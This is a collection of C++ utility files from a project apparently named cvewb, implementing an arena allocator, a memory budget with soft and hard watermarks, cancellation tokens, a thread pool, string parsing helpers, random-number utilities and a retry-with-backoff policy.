  static std::size_t align_up(std::size_t n, std::size_t align) {
    return (n + align - 1) & ~(align - 1);
  }

  void* allocate_slow(std::size_t size, std::size_t align) {
    // Advance to (or create) a chunk that fits.  Alignment is satisfied by
    // starting the search at offset 0 of each candidate chunk: new[]
    // storage is max_align-aligned, so align_up(0, align) == 0.
    while (++chunk_ < chunks_.size()) {
      Chunk& c = chunks_[chunk_];
      const std::size_t aligned = align_up(c.used, align);
      if (aligned + size <= c.capacity) {
        c.used = aligned + size;
        ++allocations_;
        return c.data.get() + aligned;
      }
    }
    Chunk fresh;
    // Under soft budget pressure new chunks shrink toward the request
    // size: the arena keeps working, it just stops reserving ahead.
    std::size_t target = chunk_bytes_;
    MemoryBudget& budget = MemoryBudget::process();
    if (budget.pressure() != MemoryBudget::Pressure::kNone && target > kSoftPressureChunkBytes) {
      target = kSoftPressureChunkBytes;
    }
    fresh.capacity = size > target ? size : target;
    // Charged growth: the injected failpoint and the budget's hard
    // watermark both refuse here, before operator new is attempted.
    gate_allocation(fresh.capacity, "arena");
    if (!budget.try_charge(fresh.capacity)) {
      throw ResourceExhausted("arena: chunk of " + std::to_string(fresh.capacity) +
                              " bytes refused by the memory budget");
    }
    try {
      fresh.data = std::unique_ptr<char[]>(new char[fresh.capacity]);
    } catch (const std::bad_alloc&) {
      budget.release(fresh.capacity);
      throw ResourceExhausted("arena: allocation of " + std::to_string(fresh.capacity) +
                              " bytes failed (out of memory)");
    }
    charged_bytes_ += fresh.capacity;
    fresh.used = size;
    chunks_.push_back(std::move(fresh));
    chunk_ = chunks_.size() - 1;
    ++allocations_;
    return chunks_.back().data.get();
  }

  std::size_t chunk_bytes_;
  static constexpr std::size_t kSoftPressureChunkBytes = 16 * 1024;
  std::vector<Chunk> chunks_;
  std::size_t chunk_ = 0;  // current bump chunk
  std::uint64_t allocations_ = 0;
  std::size_t charged_bytes_ = 0;  // ledger entry released by release()
};

}  // namespace cvewb::util
