#include "util/cancel.h"

namespace cvewb::util {

const char* cancel_reason_name(CancelReason reason) {
  switch (reason) {
    case CancelReason::kNone:
      return "none";
    case CancelReason::kUser:
      return "user";
    case CancelReason::kDeadline:
      return "deadline";
  }
  return "unknown";
}

CancelledError::CancelledError(CancelReason reason, const std::string& where)
    : std::runtime_error("cancelled (" + std::string(cancel_reason_name(reason)) + ") at " +
                         where),
      reason_(reason) {}

void CancelToken::check(const char* where) const {
  if (!cancelled()) return;
  throw CancelledError(reason(), where);
}

}  // namespace cvewb::util
