#include "util/rng.h"

#include <cmath>
#include <stdexcept>

namespace cvewb::util {

double Rng::exponential(double mean) {
  if (mean <= 0) throw std::invalid_argument("exponential mean must be > 0");
  // Inverse CDF; 1-uniform() is in (0,1] so log() is finite.
  return -mean * std::log(1.0 - uniform());
}

double Rng::normal(double mu, double sigma) {
  for (;;) {
    const double u = uniform(-1.0, 1.0);
    const double v = uniform(-1.0, 1.0);
    const double s = u * u + v * v;
    if (s > 0.0 && s < 1.0) {
      return mu + sigma * u * std::sqrt(-2.0 * std::log(s) / s);
    }
  }
}

std::size_t Rng::weighted_index(const std::vector<double>& weights) {
  double total = 0;
  for (double w : weights) {
    if (w < 0) throw std::invalid_argument("negative weight");
    total += w;
  }
  if (total <= 0) throw std::invalid_argument("weights must have positive sum");
  double r = uniform() * total;
  for (std::size_t i = 0; i < weights.size(); ++i) {
    r -= weights[i];
    if (r < 0) return i;
  }
  return weights.size() - 1;  // guard against FP rounding at the boundary
}

}  // namespace cvewb::util
