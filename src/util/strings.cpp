#include "util/strings.h"

#include <algorithm>
#include <cctype>
#include <cerrno>
#include <charconv>
#include <cmath>
#include <cstdlib>

namespace cvewb::util {

namespace {
char lower_ch(char c) { return static_cast<char>(std::tolower(static_cast<unsigned char>(c))); }
char upper_ch(char c) { return static_cast<char>(std::toupper(static_cast<unsigned char>(c))); }
bool is_space(char c) { return std::isspace(static_cast<unsigned char>(c)) != 0; }
int hex_val(char c) {
  if (c >= '0' && c <= '9') return c - '0';
  if (c >= 'a' && c <= 'f') return c - 'a' + 10;
  if (c >= 'A' && c <= 'F') return c - 'A' + 10;
  return -1;
}
}  // namespace

std::string to_lower(std::string_view s) {
  std::string out(s);
  std::transform(out.begin(), out.end(), out.begin(), lower_ch);
  return out;
}

std::string to_upper(std::string_view s) {
  std::string out(s);
  std::transform(out.begin(), out.end(), out.begin(), upper_ch);
  return out;
}

bool iequals(std::string_view a, std::string_view b) {
  if (a.size() != b.size()) return false;
  for (std::size_t i = 0; i < a.size(); ++i) {
    if (lower_ch(a[i]) != lower_ch(b[i])) return false;
  }
  return true;
}

std::string_view trim(std::string_view s) {
  while (!s.empty() && is_space(s.front())) s.remove_prefix(1);
  while (!s.empty() && is_space(s.back())) s.remove_suffix(1);
  return s;
}

std::vector<std::string_view> split(std::string_view s, char sep) {
  std::vector<std::string_view> out;
  std::size_t start = 0;
  for (std::size_t i = 0; i <= s.size(); ++i) {
    if (i == s.size() || s[i] == sep) {
      out.push_back(s.substr(start, i - start));
      start = i + 1;
    }
  }
  return out;
}

std::vector<std::string_view> split_trim(std::string_view s, char sep) {
  std::vector<std::string_view> out;
  for (auto part : split(s, sep)) {
    part = trim(part);
    if (!part.empty()) out.push_back(part);
  }
  return out;
}

bool starts_with(std::string_view s, std::string_view prefix) {
  return s.size() >= prefix.size() && s.substr(0, prefix.size()) == prefix;
}

bool ends_with(std::string_view s, std::string_view suffix) {
  return s.size() >= suffix.size() && s.substr(s.size() - suffix.size()) == suffix;
}

std::size_t ifind(std::string_view haystack, std::string_view needle, std::size_t from) {
  if (needle.empty()) return from <= haystack.size() ? from : std::string_view::npos;
  if (needle.size() > haystack.size()) return std::string_view::npos;
  for (std::size_t i = from; i + needle.size() <= haystack.size(); ++i) {
    bool ok = true;
    for (std::size_t j = 0; j < needle.size(); ++j) {
      if (lower_ch(haystack[i + j]) != lower_ch(needle[j])) {
        ok = false;
        break;
      }
    }
    if (ok) return i;
  }
  return std::string_view::npos;
}

std::string replace_all(std::string s, std::string_view from, std::string_view to) {
  if (from.empty()) return s;
  std::size_t pos = 0;
  while ((pos = s.find(from.data(), pos, from.size())) != std::string::npos) {
    s.replace(pos, from.size(), to);
    pos += to.size();
  }
  return s;
}

std::string join(const std::vector<std::string>& parts, std::string_view sep) {
  std::string out;
  for (std::size_t i = 0; i < parts.size(); ++i) {
    if (i) out += sep;
    out += parts[i];
  }
  return out;
}

std::size_t percent_decode_to(std::string_view s, char* out) {
  char* dst = out;
  for (std::size_t i = 0; i < s.size(); ++i) {
    if (s[i] == '%' && i + 2 < s.size()) {
      const int hi = hex_val(s[i + 1]);
      const int lo = hex_val(s[i + 2]);
      if (hi >= 0 && lo >= 0) {
        *dst++ = static_cast<char>(hi * 16 + lo);
        i += 2;
        continue;
      }
    }
    *dst++ = s[i];
  }
  return static_cast<std::size_t>(dst - out);
}

std::string percent_decode(std::string_view s) {
  std::string out;
  out.resize(s.size());
  out.resize(percent_decode_to(s, out.data()));
  return out;
}

bool parse_i64(std::string_view s, std::int64_t& out) {
  std::int64_t value = 0;
  const auto [p, ec] = std::from_chars(s.data(), s.data() + s.size(), value);
  if (ec != std::errc() || p != s.data() + s.size()) return false;
  out = value;
  return true;
}

bool parse_u64(std::string_view s, std::uint64_t& out) {
  // from_chars already rejects '-' for unsigned types, but be explicit:
  // the whole point is never to wrap a negative token.
  if (!s.empty() && s.front() == '-') return false;
  std::uint64_t value = 0;
  const auto [p, ec] = std::from_chars(s.data(), s.data() + s.size(), value);
  if (ec != std::errc() || p != s.data() + s.size()) return false;
  out = value;
  return true;
}

bool parse_finite_double(std::string_view s, double& out) {
  if (s.empty() || is_space(s.front())) return false;
  const std::string token(s);  // strtod needs NUL termination
  errno = 0;
  char* end = nullptr;
  const double value = std::strtod(token.c_str(), &end);
  if (end != token.c_str() + token.size()) return false;
  if (errno == ERANGE) return false;
  if (!std::isfinite(value)) return false;
  out = value;
  return true;
}

}  // namespace cvewb::util
