#include "util/thread_pool.h"

#include <algorithm>
#include <exception>

namespace cvewb::util {

namespace {

using Clock = std::chrono::steady_clock;

std::uint64_t elapsed_us(Clock::time_point from, Clock::time_point to) {
  return static_cast<std::uint64_t>(
      std::chrono::duration_cast<std::chrono::microseconds>(to - from).count());
}

}  // namespace

ThreadPool::ThreadPool(unsigned threads, CancelToken* cancel) : cancel_(cancel) {
  if (threads == 0) threads = std::max(1u, std::thread::hardware_concurrency());
  stats_.worker_idle_us.assign(threads, 0);
  workers_.reserve(threads);
  for (unsigned i = 0; i < threads; ++i) {
    workers_.emplace_back([this, i] { worker_loop(i); });
  }
}

ThreadPool::~ThreadPool() {
  {
    std::lock_guard<TimedMutex> lock(mutex_);
    stopping_ = true;
  }
  cv_.notify_all();
  for (auto& worker : workers_) worker.join();
}

ThreadPoolStats ThreadPool::stats() const {
  std::lock_guard<TimedMutex> lock(mutex_);
  return stats_;
}

void ThreadPool::enqueue(std::function<void()> job) {
  {
    std::lock_guard<TimedMutex> lock(mutex_);
    queue_.push_back(Job{std::move(job), Clock::now()});
    ++stats_.submitted;
    stats_.queue_depth = queue_.size();
    stats_.max_queue_depth = std::max(stats_.max_queue_depth, stats_.queue_depth);
  }
  cv_.notify_one();
}

void ThreadPool::finish_job(Clock::time_point run_start, bool helped) {
  std::lock_guard<TimedMutex> lock(mutex_);
  ++stats_.completed;
  if (helped) ++stats_.helped;
  stats_.task_run_us += elapsed_us(run_start, Clock::now());
}

bool ThreadPool::try_run_one() {
  Job job;
  {
    std::lock_guard<TimedMutex> lock(mutex_);
    if (queue_.empty()) return false;
    job = std::move(queue_.front());
    queue_.pop_front();
    stats_.queue_depth = queue_.size();
    stats_.task_wait_us += elapsed_us(job.enqueued, Clock::now());
  }
  const Clock::time_point run_start = Clock::now();
  job.fn();  // packaged_task: exceptions land in the future, never escape
  finish_job(run_start, /*helped=*/true);
  return true;
}

void ThreadPool::worker_loop(std::size_t worker_index) {
  for (;;) {
    Job job;
    {
      std::unique_lock<TimedMutex> lock(mutex_);
      const Clock::time_point idle_start = Clock::now();
      cv_.wait(lock, [this] { return stopping_ || !queue_.empty(); });
      stats_.worker_idle_us[worker_index] += elapsed_us(idle_start, Clock::now());
      // Drain before stopping: queued work always runs to completion.
      if (queue_.empty()) return;
      job = std::move(queue_.front());
      queue_.pop_front();
      stats_.queue_depth = queue_.size();
      stats_.task_wait_us += elapsed_us(job.enqueued, Clock::now());
    }
    const Clock::time_point run_start = Clock::now();
    job.fn();  // packaged_task: exceptions land in the future, never escape
    finish_job(run_start, /*helped=*/false);
  }
}

void for_each_shard(ThreadPool* pool, std::size_t shards,
                    const std::function<void(std::size_t)>& fn, CancelToken* cancel) {
  if (pool == nullptr || pool->size() <= 1 || shards <= 1) {
    for (std::size_t shard = 0; shard < shards; ++shard) {
      if (cancel != nullptr) cancel->check("for_each_shard/inline");
      fn(shard);
    }
    return;
  }
  std::vector<std::future<void>> futures;
  futures.reserve(shards);
  for (std::size_t shard = 0; shard < shards; ++shard) {
    // The explicit token check covers pools constructed without one; a
    // pool-attached token already gates every task at pickup.
    futures.push_back(pool->submit([&fn, shard, cancel] {
      if (cancel != nullptr) cancel->check("for_each_shard/shard_start");
      fn(shard);
    }));
  }
  // Collect every future (the pool must fully drain even on failure), then
  // rethrow the first failure in submission order: the future walk is in
  // shard order, so "first" is the lowest-indexed failing shard no matter
  // which worker failed first on the wall clock.
  //
  // While futures are pending, help: drain queued tasks on this thread.
  // That makes nested fan-out deadlock-free -- a DAG node blocked here can
  // always make progress on the very shards it is waiting for -- and keeps
  // the caller productive instead of parked.  When the queue is empty but
  // a future is still unready, its task is *running* on some thread, so a
  // blocking wait terminates (inductively: every running task terminates).
  std::exception_ptr first_error;
  for (auto& future : futures) {
    while (future.wait_for(std::chrono::seconds(0)) != std::future_status::ready) {
      if (!pool->try_run_one()) {
        future.wait();
        break;
      }
    }
    try {
      future.get();
    } catch (...) {
      if (!first_error) first_error = std::current_exception();
    }
  }
  if (first_error) std::rethrow_exception(first_error);
}

}  // namespace cvewb::util
