#include "util/thread_pool.h"

#include <algorithm>
#include <exception>

namespace cvewb::util {

ThreadPool::ThreadPool(unsigned threads) {
  if (threads == 0) threads = std::max(1u, std::thread::hardware_concurrency());
  workers_.reserve(threads);
  for (unsigned i = 0; i < threads; ++i) {
    workers_.emplace_back([this] { worker_loop(); });
  }
}

ThreadPool::~ThreadPool() {
  {
    std::lock_guard<std::mutex> lock(mutex_);
    stopping_ = true;
  }
  cv_.notify_all();
  for (auto& worker : workers_) worker.join();
}

void ThreadPool::enqueue(std::function<void()> job) {
  {
    std::lock_guard<std::mutex> lock(mutex_);
    queue_.push_back(std::move(job));
  }
  cv_.notify_one();
}

void ThreadPool::worker_loop() {
  for (;;) {
    std::function<void()> job;
    {
      std::unique_lock<std::mutex> lock(mutex_);
      cv_.wait(lock, [this] { return stopping_ || !queue_.empty(); });
      // Drain before stopping: queued work always runs to completion.
      if (queue_.empty()) return;
      job = std::move(queue_.front());
      queue_.pop_front();
    }
    job();  // packaged_task: exceptions land in the future, never escape
  }
}

void for_each_shard(ThreadPool* pool, std::size_t shards,
                    const std::function<void(std::size_t)>& fn) {
  if (pool == nullptr || pool->size() <= 1 || shards <= 1) {
    for (std::size_t shard = 0; shard < shards; ++shard) fn(shard);
    return;
  }
  std::vector<std::future<void>> futures;
  futures.reserve(shards);
  for (std::size_t shard = 0; shard < shards; ++shard) {
    futures.push_back(pool->submit([&fn, shard] { fn(shard); }));
  }
  std::exception_ptr first_error;
  for (auto& future : futures) {
    try {
      future.get();
    } catch (...) {
      if (!first_error) first_error = std::current_exception();
    }
  }
  if (first_error) std::rethrow_exception(first_error);
}

}  // namespace cvewb::util
