// Process-wide memory budget with soft/hard watermarks.
//
// The daemon runs studies, the store maps snapshots, and the cache buffers
// blobs all in one process; when the machine is short on memory the kernel
// answers with OOM-kills, not polite errors.  The budget turns "we are
// close to the edge" into a first-class signal the engine can act on
// *before* malloc fails:
//
//   * soft watermark -- advisory pressure.  Charging past it never fails,
//     but `pressure()` flips to kSoft and the engine degrades gracefully:
//     arenas grow in smaller chunks, the stage cache skips writes
//     (`cache/skipped_budget`), the daemon stops admitting detached jobs.
//     Degradation is strictly result-neutral: the same inputs produce the
//     same StudyResult bytes at any pressure level (proven by
//     tests/health/degraded_budget_golden_test.cpp).
//   * hard watermark -- a charge that would cross it is refused.  Owning
//     call sites surface the refusal as a structured error
//     (util::ResourceExhausted -> StudyError resource_exhausted ->
//     supervisor retry at reduced footprint), never a crash.
//
// Charging discipline (see DESIGN.md §15): long-lived owners -- arena
// chunks, store tier mappings, daemon connection buffers -- hold a
// persistent charge released with the resource (BudgetCharge).  Transient
// bulk allocations -- cache blobs, codec buffers, column fills -- *probe*
// via gate_allocation(): the hard watermark is enforced at the moment of
// allocation without long-term ledger entries.
//
// There is exactly one budget per process (`MemoryBudget::process()`),
// matching the resource it models; tests scope limit changes with
// ScopedBudgetLimits.  All operations are lock-free atomics: charging
// sits on the arena slow path and the store open path, never on a
// per-session hot loop.
#pragma once

#include <atomic>
#include <cstdint>
#include <stdexcept>
#include <string>

namespace cvewb::util {

/// Structured "the process is out of <memory|descriptors>" failure.  Not a
/// std::bad_alloc: bad_alloc escaping a hot path is exactly the unstructured
/// behavior this layer exists to replace.  The pipeline supervisor maps it
/// to a retryable `resource_exhausted` StudyError.
class ResourceExhausted : public std::runtime_error {
 public:
  explicit ResourceExhausted(const std::string& what) : std::runtime_error(what) {}
};

/// Injected allocation-failure hook.  chaos::ResourceShim installs one so
/// charged allocation sites fail deterministically under test plans; null
/// (the default) means no injection.  Returns true when the allocation at
/// `site` must fail.  The hook must be thread-safe and must not allocate.
using AllocFailpoint = bool (*)(std::uint64_t bytes, const char* site);

void set_alloc_failpoint(AllocFailpoint hook) noexcept;
AllocFailpoint alloc_failpoint() noexcept;

class MemoryBudget {
 public:
  enum class Pressure {
    kNone,  // below the soft watermark (or unlimited)
    kSoft,  // soft <= charged < hard: degrade, keep answering
    kHard,  // charged >= hard: refuse new charges
  };

  MemoryBudget() = default;
  MemoryBudget(const MemoryBudget&) = delete;
  MemoryBudget& operator=(const MemoryBudget&) = delete;

  /// 0 = unlimited for either watermark.  A hard limit below the soft
  /// limit is clamped up to it (soft must trip first by construction).
  void set_limits(std::uint64_t soft_bytes, std::uint64_t hard_bytes) noexcept;

  std::uint64_t soft_limit() const noexcept { return soft_.load(std::memory_order_relaxed); }
  std::uint64_t hard_limit() const noexcept { return hard_.load(std::memory_order_relaxed); }
  std::uint64_t charged() const noexcept { return charged_.load(std::memory_order_relaxed); }
  std::uint64_t peak() const noexcept { return peak_.load(std::memory_order_relaxed); }
  std::uint64_t hard_denials() const noexcept { return denials_.load(std::memory_order_relaxed); }

  Pressure pressure() const noexcept {
    const std::uint64_t used = charged();
    const std::uint64_t hard = hard_limit();
    if (hard != 0 && used >= hard) return Pressure::kHard;
    const std::uint64_t soft = soft_limit();
    if (soft != 0 && used >= soft) return Pressure::kSoft;
    return Pressure::kNone;
  }

  /// Bytes left before the hard watermark; uint64 max when unlimited.
  std::uint64_t remaining() const noexcept;

  /// Charge `bytes` against the ledger.  False (and nothing charged) when
  /// the charge would land strictly past the hard watermark -- landing
  /// exactly at it is the last admissible charge, after which pressure()
  /// reports kHard and every further charge is refused.  The soft
  /// watermark never refuses.
  bool try_charge(std::uint64_t bytes) noexcept;

  /// Undo a successful try_charge.  Releasing more than was charged clamps
  /// at zero (defensive; the RAII holders make it unreachable).
  void release(std::uint64_t bytes) noexcept;

  /// The one budget the process shares (default: unlimited).
  static MemoryBudget& process();

 private:
  std::atomic<std::uint64_t> soft_{0};
  std::atomic<std::uint64_t> hard_{0};
  std::atomic<std::uint64_t> charged_{0};
  std::atomic<std::uint64_t> peak_{0};
  std::atomic<std::uint64_t> denials_{0};
};

/// Gate a sizable allocation at `site`: first the injected failpoint (the
/// deterministic OOM matrix), then a probe of the process budget's hard
/// watermark.  Throws ResourceExhausted on either; on success nothing
/// stays charged -- owners that hold memory long-term follow up with a
/// BudgetCharge.
void gate_allocation(std::uint64_t bytes, const char* site);

/// RAII ledger entry for a long-lived owner (arena chunk, tier mapping,
/// connection buffer): acquire() charges, the destructor releases.
class BudgetCharge {
 public:
  BudgetCharge() = default;
  BudgetCharge(const BudgetCharge&) = delete;
  BudgetCharge& operator=(const BudgetCharge&) = delete;
  BudgetCharge(BudgetCharge&& other) noexcept { *this = static_cast<BudgetCharge&&>(other); }
  BudgetCharge& operator=(BudgetCharge&& other) noexcept {
    if (this != &other) {
      reset();
      budget_ = other.budget_;
      bytes_ = other.bytes_;
      other.budget_ = nullptr;
      other.bytes_ = 0;
    }
    return *this;
  }
  ~BudgetCharge() { reset(); }

  /// Charge `bytes` on `budget`; false when the hard watermark refuses
  /// (the holder stays empty).  Re-acquiring releases the previous charge.
  bool acquire(MemoryBudget& budget, std::uint64_t bytes) noexcept {
    reset();
    if (!budget.try_charge(bytes)) return false;
    budget_ = &budget;
    bytes_ = bytes;
    return true;
  }

  /// Grow or shrink the held charge to `bytes` total on `budget`.  Growth
  /// charges only the delta, and on refusal the PREVIOUS charge is kept --
  /// the owner still holds the memory it held, so the ledger must keep
  /// saying so (acquire() would drop it first and leave the owner's live
  /// buffers unaccounted).  Shrinking releases the difference and cannot
  /// fail.  With no charge held (or a different budget) this is acquire().
  bool resize(MemoryBudget& budget, std::uint64_t bytes) noexcept {
    if (budget_ != &budget) return acquire(budget, bytes);
    if (bytes > bytes_) {
      if (!budget.try_charge(bytes - bytes_)) return false;
    } else {
      budget.release(bytes_ - bytes);
    }
    bytes_ = bytes;
    return true;
  }

  void reset() noexcept {
    if (budget_ != nullptr) budget_->release(bytes_);
    budget_ = nullptr;
    bytes_ = 0;
  }

  std::uint64_t bytes() const noexcept { return bytes_; }
  bool held() const noexcept { return budget_ != nullptr; }

 private:
  MemoryBudget* budget_ = nullptr;
  std::uint64_t bytes_ = 0;
};

/// Test/bench scope: set process-budget limits, restore the previous ones
/// on exit (charges themselves always balance via their owners).
class ScopedBudgetLimits {
 public:
  ScopedBudgetLimits(std::uint64_t soft_bytes, std::uint64_t hard_bytes)
      : prev_soft_(MemoryBudget::process().soft_limit()),
        prev_hard_(MemoryBudget::process().hard_limit()) {
    MemoryBudget::process().set_limits(soft_bytes, hard_bytes);
  }
  ScopedBudgetLimits(const ScopedBudgetLimits&) = delete;
  ScopedBudgetLimits& operator=(const ScopedBudgetLimits&) = delete;
  ~ScopedBudgetLimits() { MemoryBudget::process().set_limits(prev_soft_, prev_hard_); }

 private:
  std::uint64_t prev_soft_;
  std::uint64_t prev_hard_;
};

}  // namespace cvewb::util
