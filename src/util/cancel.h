// Cooperative cancellation for long-running pipeline work.
//
// A CancelToken is a tiny shared flag that every sharded stage, the thread
// pool, and the cache/report I/O layers poll at natural boundaries (stage
// starts, shard starts, retry loops).  Firing it never interrupts work
// mid-computation: the next cancellation point throws CancelledError, the
// stack unwinds through the stage, and everything already checkpointed
// stays on disk (see pipeline::RunSupervisor for the resume contract).
//
// `request_cancel` is a single relaxed atomic store, so it is safe to call
// from a POSIX signal handler -- this is exactly how the CLI turns SIGINT /
// SIGTERM into a clean checkpoint-and-exit.
//
// Tokens also carry an optional deadline (per-stage budgets): once armed,
// any cancellation point past the instant observes the token as cancelled
// with reason kDeadline.  The expiry latches, so one stage blowing its
// budget cancels the whole run, not just the shard that noticed.
#pragma once

#include <atomic>
#include <chrono>
#include <cstdint>
#include <stdexcept>
#include <string>

namespace cvewb::util {

enum class CancelReason : int {
  kNone = 0,
  kUser = 1,      // request_cancel(): operator, signal handler, test hook
  kDeadline = 2,  // an armed deadline expired
};

const char* cancel_reason_name(CancelReason reason);

/// Thrown by cancellation points (CancelToken::check) once a token fires.
class CancelledError : public std::runtime_error {
 public:
  CancelledError(CancelReason reason, const std::string& where);
  CancelReason reason() const { return reason_; }

 private:
  CancelReason reason_;
};

class CancelToken {
 public:
  /// Fire the token.  One relaxed store: async-signal-safe, idempotent,
  /// and the first reason to land wins.
  void request_cancel(CancelReason reason = CancelReason::kUser) noexcept {
    int expected = 0;
    reason_.compare_exchange_strong(expected, static_cast<int>(reason),
                                    std::memory_order_relaxed);
  }

  /// Arm an absolute steady-clock deadline; expiry is observed (and
  /// latched) by the next cancellation point.  Re-arming replaces the
  /// previous deadline, so per-stage budgets reset at stage boundaries.
  void arm_deadline(std::chrono::steady_clock::time_point deadline) noexcept {
    deadline_us_.store(
        std::chrono::duration_cast<std::chrono::microseconds>(deadline.time_since_epoch())
            .count(),
        std::memory_order_relaxed);
  }

  void disarm_deadline() noexcept { deadline_us_.store(0, std::memory_order_relaxed); }

  /// True once fired (explicitly or by deadline expiry, which latches).
  bool cancelled() const noexcept {
    if (reason_.load(std::memory_order_relaxed) != 0) return true;
    const std::int64_t deadline_us = deadline_us_.load(std::memory_order_relaxed);
    if (deadline_us != 0 &&
        std::chrono::steady_clock::now().time_since_epoch() >=
            std::chrono::microseconds(deadline_us)) {
      // Latch so the expiry survives a later disarm_deadline().
      int expected = 0;
      reason_.compare_exchange_strong(expected, static_cast<int>(CancelReason::kDeadline),
                                      std::memory_order_relaxed);
      return true;
    }
    return false;
  }

  CancelReason reason() const noexcept {
    return static_cast<CancelReason>(reason_.load(std::memory_order_relaxed));
  }

  /// Cancellation point: throws CancelledError (tagged with the firing
  /// reason and `where`) once the token has fired.
  void check(const char* where) const;

 private:
  // mutable: cancelled() latches deadline expiry from const observers.
  mutable std::atomic<int> reason_{0};
  std::atomic<std::int64_t> deadline_us_{0};  // 0 = no deadline armed
};

}  // namespace cvewb::util
