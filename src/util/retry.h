// Bounded retry with exponential backoff for transient I/O failures.
//
// The policy is a value (copied into StudyConfig and the cache/report
// writers), the loop is a header-only helper.  Backoff delays are a pure
// function of (policy, retry index) -- no jitter -- so a supervised run's
// retry schedule is as deterministic as everything else in the engine;
// what varies under fault injection is only wall-clock, never bytes.
#pragma once

#include <algorithm>
#include <chrono>
#include <cmath>
#include <thread>

#include "util/cancel.h"

namespace cvewb::util {

struct RetryPolicy {
  /// Additional attempts after the first failure; 0 = single attempt
  /// (today's fail-fast behavior).
  int max_retries = 0;
  std::chrono::microseconds backoff_base{500};
  double backoff_multiplier = 2.0;
  std::chrono::microseconds backoff_cap{50'000};

  /// Delay before retry `retry_index` (0-based): base * multiplier^index,
  /// clamped to the cap.
  std::chrono::microseconds delay(int retry_index) const {
    const double us = static_cast<double>(backoff_base.count()) *
                      std::pow(backoff_multiplier, retry_index);
    const auto cap = static_cast<double>(backoff_cap.count());
    return std::chrono::microseconds(static_cast<std::int64_t>(std::min(us, cap)));
  }
};

/// Run `attempt` (returning true on success) up to 1 + max_retries times,
/// sleeping the backoff schedule between attempts.  `on_retry(index)` fires
/// before each re-attempt (metrics hooks).  A fired CancelToken stops the
/// loop early -- retrying past a cancellation would stall the very
/// checkpoint-and-exit path the token exists for.
template <typename Fn, typename OnRetry>
bool retry_io(const RetryPolicy& policy, const CancelToken* cancel, Fn&& attempt,
              OnRetry&& on_retry) {
  for (int retry_index = 0;; ++retry_index) {
    if (attempt()) return true;
    if (retry_index >= policy.max_retries) return false;
    if (cancel != nullptr && cancel->cancelled()) return false;
    on_retry(retry_index);
    const auto delay = policy.delay(retry_index);
    if (delay.count() > 0) std::this_thread::sleep_for(delay);
  }
}

}  // namespace cvewb::util
